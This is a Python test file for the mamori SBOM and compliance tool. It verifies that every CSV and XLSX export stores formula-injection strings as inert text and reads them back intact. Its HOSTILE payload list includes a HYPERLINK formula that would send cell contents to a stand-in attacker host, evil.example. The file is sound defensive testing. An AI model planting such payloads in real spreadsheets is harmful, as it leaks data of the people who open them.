"""No spreadsheet formula injection: every CSV and XLSX mamori writes keeps hostile text as text.

Each writer in WRITERS gets hostile text where its input can carry it (component names and versions, a
feed's vulnerability summary, an assessment's organisation, owner and reason, a checklist's rows) and its
output is checked: no XLSX cell is a formula (openpyxl ``data_type != "f"``) and each hostile text cell
carries Excel's quote prefix; no CSV cell starts with a formula character (checked here independently of
mamori.cells). The readers give the text back. The module scan at the bottom makes sure a new CSV or
XLSX writer cannot be forgotten: it must use mamori.cells and be listed in WRITERS.
"""

from __future__ import annotations

import ast
import csv
import io
import re
from collections.abc import Callable
from pathlib import Path

import openpyxl
import orjson
import pytest

import mamori
from mamori.cli.main import main
from mamori.compliance import planner, questionnaire
from mamori.compliance.repository import Assessments
from mamori.model.sbom import Component, Contact
from mamori.sbom import read, write
from mamori.store import open_store
from match_support import build_store, document

HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    '＝HYPERLINK("http://evil.example")',  # full-width equals sign, as a Japanese IME types it
    "'=1",  # looks already guarded: must survive a round trip too
)
SRC = Path(mamori.__file__).resolve().parent


# ------------------------------------------------------------------------------------------ writers


def _osv(folder: Path, hostile: str) -> Path:
    record = {
        "id": "MAMORI-INJECT-1",
        "modified": "2024-01-01T00:00:00Z",
        "summary": hostile,
        "details": hostile,
        "affected": [
            {
                "package": {"ecosystem": "PyPI", "name": "reportlab"},
                "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "3.5.55"}]}],
            }
        ],
    }
    path = folder / "MAMORI-INJECT-1.json"
    path.write_bytes(orjson.dumps(record))
    return path


def _scan(fmt: str) -> Callable[[Path, str], list[Path]]:
    def run(tmp: Path, hostile: str) -> list[Path]:
        build_store(tmp, [_osv(tmp, hostile)], complete=True).close()
        doc = document(
            Component(hostile, "3.5.26", purl="pkg:pypi/reportlab@3.5.26", bom_ref="a"),
            Component(hostile + " (2)", hostile, bom_ref="b"),  # no purl: not evaluated, its row names it
        )
        sbom = tmp / "app.cdx.json"
        write(doc, sbom)
        out = tmp / f"scan.{fmt}"
        code = main(["scan", str(sbom), "--db", str(tmp / "kb.db"), "--format", fmt, "-o", str(out)])
        assert code in (0, 3) and out.is_file()
        return [out]

    return run


def _assess(tmp: Path, hostile: str) -> list[Path]:
    store = open_store(tmp / "m.db")
    with store:
        book = Assessments(store)
        a = book.create("ssdf", hostile + " KK", ("developer",), hostile + " scope")
        book.answer(a, "PO.1.1", status="not_applicable", owner=hostile, reason=hostile)
        questionnaire.export(book.get(a.id), tmp / "q.xlsx")
    return [tmp / "q.xlsx"]


def _plan(monkeypatch: pytest.MonkeyPatch) -> Callable[[Path, str], list[Path]]:
    def run(tmp: Path, hostile: str) -> list[Path]:
        original = planner._contract_rows

        def rows(items: list, lang: str) -> list[dict[str, str]]:
            out = original(items, lang)
            out[0] = {**out[0], "title": hostile, "summary": hostile, "options": hostile}
            return out

        monkeypatch.setattr(planner, "_contract_rows", rows)
        planner.write_contract("basic", tmp / "contract.xlsx", "ja")
        return [tmp / "contract.xlsx"]

    return run


def _sbom(fmt: str, suffix: str) -> Callable[[Path, str], list[Path]]:
    def run(tmp: Path, hostile: str) -> list[Path]:
        out = tmp / f"sbom.{suffix}"
        write(_hostile_document(hostile), out, fmt)
        return [out]

    return run


def _hostile_document(hostile: str):  # type: ignore[no-untyped-def]
    return document(
        Component(
            hostile,
            hostile,
            purl="pkg:pypi/reportlab@3.5.26",
            bom_ref="a",
            supplier=Contact(name=hostile),
            description=hostile,
        ),
        Component("plain", "1.0", purl="pkg:pypi/plain@1.0", bom_ref="b"),
    )


def _contract(tmp: Path, hostile: str) -> list[Path]:
    from mamori.contract.check import Delivery, check, write_report
    from mamori.contract.terms import ItemTerm, Terms

    terms = Terms("x", {"TX-04": ItemTerm(True, {"components": [hostile]}, hostile, hostile)})
    results = check(terms, Delivery(sboms=[(hostile, _hostile_document(hostile))]))
    write_report(tmp / "contract.xlsx", hostile, results, [hostile])
    return [tmp / "contract.xlsx"]


def _inventory(tmp: Path, hostile: str) -> list[Path]:
    """A deployment whose site, system, owner and product name are hostile, exported as CSV and XLSX."""
    from mamori.demo import DEMO_SBOM, demo_data
    from mamori.inventory.deployments import add_deployment
    from mamori.inventory.transfer import export_file
    from mamori.portfolio.archive import add_product, store_sbom

    store = open_store(tmp / "inventory.db")
    add_product(store, hostile, supplier=hostile, who="test")
    store_sbom(store, hostile, "1.0", demo_data() / DEMO_SBOM, who="test")
    add_deployment(store, hostile, "1.0", site=hostile, system=hostile, owner=hostile, environment=hostile)
    outputs = [tmp / "inventory.csv", tmp / "inventory.xlsx"]
    for out in outputs:
        export_file(store, out)
    return outputs


def _priorities(tmp: Path, hostile: str) -> list[Path]:
    """``inventory priorities --format csv`` with hostile text in every field that comes from input."""
    from mamori.cli.inventory import _csv

    item = {
        "rank": 1,
        "ssvc": {"outcome": "act", "path": hostile},
        "vulnerability": {"kev": True, "epss": 0.5, "score": 9.8, "id": hostile},
        "site": hostile,
        "system": hostile,
        "product": hostile,
        "release": hostile,
        "component": {"name": hostile, "version": hostile, "purl": hostile},
        "fixed_versions": [hostile],
        "support_ends": hostile,
        "support_state": hostile,
    }
    out = tmp / "priorities.csv"
    out.write_bytes(_csv({"items": [item]}))
    return [out]


# module that writes → how the test drives it with hostile text
WRITERS: dict[str, tuple[str, Callable[..., Callable[[Path, str], list[Path]]]]] = {
    "scan --format csv": ("report/csv_report.py", lambda mp: _scan("csv")),
    "scan --format xlsx": ("report/xlsx_report.py", lambda mp: _scan("xlsx")),
    "assess export-xlsx": ("compliance/questionnaire.py", lambda mp: _assess),
    "plan contract (.xlsx)": ("compliance/planner.py", _plan),
    "contract check (.xlsx)": ("contract/check.py", lambda mp: _contract),
    "inventory export (.csv, .xlsx)": ("inventory/transfer.py", lambda mp: _inventory),
    "inventory priorities --format csv": ("cli/inventory.py", lambda mp: _priorities),
    "sbom SPDX Lite CSV": ("sbom/spreadsheet/table.py", lambda mp: _sbom("spdx-lite-csv", "csv")),
    "sbom SPDX Lite XLSX": ("sbom/spreadsheet/spdx_lite.py", lambda mp: _sbom("spdx-lite-xlsx", "xlsx")),
}


# ------------------------------------------------------------------------------------------ checks

_NUMBER = re.compile(r"[+\-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+\-]?\d+)?")


def _formula_like(text: str) -> bool:
    """What a spreadsheet could run, stated independently of mamori.cells (OWASP CSV injection)."""
    if not text:
        return False
    if text[0] in "\t\r":
        return True
    head = text.lstrip()
    if head[:1] in ("=", "@", "＝", "＠"):
        return True
    return head[:1] in ("+", "-", "＋", "－") and len(head) > 1 and not _NUMBER.fullmatch(head)


def _problems(path: Path, hostile: str) -> list[str]:
    """Cells of ``path`` a spreadsheet would run; also a complaint when the hostile text is not there at
    all (a check that sees nothing proves nothing)."""
    problems: list[str] = []
    seen = False
    core = hostile.strip().lstrip("'")
    if path.suffix == ".csv":
        text = path.read_bytes().decode("utf-8-sig")
        for number, row in enumerate(csv.reader(io.StringIO(text, newline="")), start=1):
            for cell in row:
                seen = seen or core in cell
                if _formula_like(cell):
                    problems.append(f"row {number}: {cell!r}")
    else:
        book = openpyxl.load_workbook(path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    value = cell.value
                    seen = seen or (isinstance(value, str) and core in value)
                    if cell.data_type == "f":
                        problems.append(f"{sheet.title}!{cell.coordinate} is a formula: {value!r}")
                    elif isinstance(value, str) and _formula_like(value) and not cell.quotePrefix:
                        problems.append(f"{sheet.title}!{cell.coordinate} has no quote prefix: {value!r}")
    if not seen:
        problems.append("the hostile text is not in the output")
    return problems


@pytest.mark.parametrize("hostile", HOSTILE, ids=[repr(h)[1:13] for h in HOSTILE])
@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_no_cell_is_a_formula(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, writer: str, hostile: str
) -> None:
    _, make = WRITERS[writer]
    outputs = make(monkeypatch)(tmp_path, hostile)
    assert {str(p.name): _problems(p, hostile) for p in outputs} == {p.name: [] for p in outputs}


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    from mamori import cells

    assert cells.csv_row([-1, 2.5, "-1", "+2.5", "-", "-x", None, True]) == [
        "-1", "2.5", "-1", "+2.5", "-", "'-x", "", "true"
    ]  # fmt: skip
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(cells.xlsx_row(sheet, [-1, 9.8, "-1", "#N/A", "=1"]))
    book.save(tmp_path / "n.xlsx")
    row = next(openpyxl.load_workbook(tmp_path / "n.xlsx").active.iter_rows())
    assert [(c.value, c.data_type) for c in row] == [
        (-1, "n"),
        (9.8, "n"),
        ("-1", "s"),
        ("#N/A", "s"),
        ("=1", "s"),
    ]


# ------------------------------------------------------------------------------------------ round trips


def _plain(text: str) -> str:
    """The readers trim surrounding white space of every cell (people type it by accident)."""
    return text.strip()


@pytest.mark.parametrize("fmt,suffix", [("spdx-lite-csv", "csv"), ("spdx-lite-xlsx", "xlsx")])
def test_spdx_lite_round_trip_gives_the_text_back(tmp_path: Path, fmt: str, suffix: str) -> None:
    wrong = {}
    for n, hostile in enumerate(HOSTILE):
        out = tmp_path / f"{n}.{suffix}"
        write(_hostile_document(hostile), out, fmt)
        doc = read(out)
        (back,) = [c for c in doc.components if c.bom_ref != "b" and c.name != "plain"] or [None]
        got = (back.name, back.version, back.supplier.name if back.supplier else None) if back else None
        want = (hostile, hostile, hostile)
        if suffix == "xlsx" or hostile != hostile.strip():
            want = tuple(_plain(w) for w in want)  # type: ignore[assignment]
        if got != want:
            wrong[hostile] = got
    assert wrong == {}


def test_csv_keeps_even_surrounding_text_exact() -> None:
    from mamori import cells
    from mamori.sbom.spreadsheet.table import load_csv

    data = cells.csv_bytes([list(HOSTILE), ["'", "''=1", "'plain", "-", "=", "＠x"]])
    rows = load_csv(data, Path("x.csv")).rows
    assert rows[0] == list(HOSTILE)  # the guard keeps even leading white space
    assert rows[1] == ["'", "''=1", "'plain", "-", "=", "＠x"]


def test_assess_import_gives_the_answers_back(tmp_path: Path) -> None:
    wrong = {}
    for n, hostile in enumerate(HOSTILE):
        store = open_store(tmp_path / f"{n}.db")
        with store:
            book = Assessments(store)
            a = book.create("ssdf", "Example KK", ("developer",), "tool 1.0")
            book.answer(a, "PO.1.1", status="not_applicable", owner=hostile, reason=hostile)
            a = book.get(a.id)
            questionnaire.export(a, tmp_path / f"{n}.xlsx")
            rows = {item: values for item, values, _ in questionnaire.read(a, tmp_path / f"{n}.xlsx")}
            got = (rows["PO.1.1"]["owner"], rows["PO.1.1"]["reason"])
            if got != (_plain(hostile), _plain(hostile)):
                wrong[hostile] = got
    assert wrong == {}


# ------------------------------------------------------------------------------------------ no writer forgotten


def _modules() -> dict[str, ast.Module]:
    return {
        p.relative_to(SRC).as_posix(): ast.parse(p.read_text(encoding="utf-8")) for p in SRC.rglob("*.py")
    }


def _calls(tree: ast.Module) -> list[ast.Call]:
    return [n for n in ast.walk(tree) if isinstance(n, ast.Call)]


def _dotted(node: ast.AST) -> str:
    if isinstance(node, ast.Attribute):
        return f"{_dotted(node.value)}.{node.attr}"
    return node.id if isinstance(node, ast.Name) else ""


def test_every_writer_is_listed_and_uses_the_shared_cells() -> None:
    modules = _modules()
    csv_writers = {
        name
        for name, tree in modules.items()
        for call in _calls(tree)
        if _dotted(call.func) in ("csv.writer", "csv.DictWriter")
    } | {
        name
        for name, tree in modules.items()
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom) and node.module == "csv"
    }
    assert csv_writers == {"cells.py"}, "write CSV with mamori.cells.csv_bytes, never csv.writer"
    workbooks = {
        name
        for name, tree in modules.items()
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom)
        and node.module == "openpyxl"
        and any(a.name == "Workbook" for a in node.names)
    }
    csv_modules = {
        name
        for name, tree in modules.items()
        for call in _calls(tree)
        if _dotted(call.func) in ("cells.csv_bytes", "write_csv_rows")
    } - {"sbom/spreadsheet/spdx_lite.py"}  # it writes CSV through table.write_csv_rows
    listed = {module for module, _ in WRITERS.values()}
    assert workbooks | csv_modules == listed, "a CSV or XLSX writer is missing from WRITERS"
    for name in workbooks:
        tree = modules[name]
        imports_cells = any(
            isinstance(n, ast.ImportFrom) and n.module == "mamori" and any(a.name == "cells" for a in n.names)
            for n in ast.walk(tree)
        )
        assert imports_cells, f"{name} writes XLSX without mamori.cells"
        raw = [
            ast.unparse(call)[:80]
            for call in _calls(tree)
            if (
                _dotted(call.func).endswith(".append")
                and call.args
                and isinstance(call.args[0], ast.List | ast.ListComp)
            )
            or (_dotted(call.func).endswith(".cell") and any(k.arg == "value" for k in call.keywords))
        ]
        assert raw == [], f"{name} puts values in cells without mamori.cells: {raw}"
